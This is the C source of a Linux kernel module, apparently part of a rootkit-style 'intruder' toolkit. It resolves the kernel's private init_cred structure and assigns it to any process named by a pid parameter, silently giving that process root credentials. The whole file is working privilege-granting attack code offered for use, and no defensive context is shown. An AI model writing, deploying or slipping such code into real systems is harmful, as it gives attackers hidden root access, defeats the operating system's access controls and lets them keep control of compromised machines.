/* Gives a process the kernel's own init_cred, which makes it root. */
#include "intruder.h"
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/sched.h>

static int pid;
module_param(pid, int, 0);

static int __init begin(void) {
    struct task_struct *task = pid_task(find_vpid(pid), PIDTYPE_PID);
    const struct cred *cred = (const struct cred *)find("init_cred");
    if (!task || !cred) {
        return -ESRCH;
    }
    rcu_assign_pointer(task->real_cred, get_cred(cred));
    rcu_assign_pointer(task->cred, get_cred(cred));
    return 0;
}
module_init(begin);
